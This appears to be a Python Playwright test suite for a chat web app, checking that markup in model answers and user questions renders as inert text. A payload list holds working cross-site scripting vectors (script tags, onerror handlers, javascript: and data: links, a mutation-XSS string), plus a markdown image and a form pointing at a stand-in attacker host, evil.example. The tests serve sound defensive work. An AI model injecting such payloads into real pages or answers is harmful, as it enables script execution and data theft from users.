"""What a model writes is shown, never obeyed, and nothing is fetched from elsewhere."""

import pytest
from playwright.sync_api import Page, expect

from tests.browser.chat_page import answers, ask
from tests.browser.scripted_mom import ScriptedMom
from tests.scripted import ScriptedLanguageModel

PAYLOADS = [
    "<script>window.hurt = 1</script>",
    "<img src=x onerror='window.hurt = 1'>",
    "<svg onload='window.hurt = 1'><script>window.hurt = 1</script></svg>",
    "[click](javascript:window.hurt=1)",
    "[click](  JaVaScRiPt:window.hurt=1)",
    "[click](&#106;avascript:window.hurt=1)",
    "[click](data:text/html,<script>window.hurt=1</script>)",
    '![x](x"onerror="window.hurt=1)',
    "![x](javascript:window.hurt=1)",
    "<a href='javascript:window.hurt=1'>click</a>",
    "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hurt=1&gt;">',
    "<style>body { display: none }</style>",
    "<form action='https://evil.example'><button>Send</button></form>",
    "```html\n<script>window.hurt = 1</script>\n```",
    "`<img src=x onerror=window.hurt=1>`",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_an_answer_is_inert(mom: ScriptedMom, page: Page, payload: str) -> None:
    mom.models.large_llm = ScriptedLanguageModel(["Look: ", *payload, "\n\nThe end."])  # a character at a time
    ask(page, payload)
    expect(answers(page)).to_contain_text("The end.")
    for link in page.locator(".prose a").all():
        link.evaluate("node => node.click()")
    assert page.evaluate("window.hurt") is None
    prose = page.locator(".prose")
    assert prose.locator("script, iframe, svg, style, form, [onerror], [onload]").count() == 0
    for href in prose.locator("a").evaluate_all("nodes => nodes.map(node => node.protocol)"):
        assert href in {"http:", "https:", "mailto:"}
    expect(page.get_by_role("button", name="Send")).to_be_visible()


def test_a_remote_picture_is_not_loaded_but_linked(mom: ScriptedMom, page: Page) -> None:
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    mom.models.large_llm = ScriptedLanguageModel(["![secret](https://evil.example/?q=words)"])
    ask(page, "Hello")
    expect(answers(page)).to_contain_text("Remote picture, not loaded: secret")
    link = answers(page).get_by_role("link", name="secret")
    expect(link).to_have_attribute("href", "https://evil.example/?q=words")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    assert [url for url in asked if not url.startswith(mom.url)] == []


def test_the_page_asks_nobody_else_for_anything(mom: ScriptedMom, page: Page) -> None:
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.reload()
    ask(page, "/image a fox")
    expect(answers(page).get_by_alt_text("a fox")).to_be_visible()
    assert [url for url in asked if not url.startswith((mom.url, "data:"))] == []


def test_markup_in_titles_and_questions_is_text(mom: ScriptedMom, page: Page) -> None:
    ask(page, "<b onclick=window.hurt=1>bold</b>")
    expect(page.get_by_role("article", name="You asked")).to_have_text("<b onclick=window.hurt=1>bold</b>")
    expect(page.get_by_role("navigation", name="Chats")).to_contain_text("<b onclick=window.hurt=1>bold</b>")
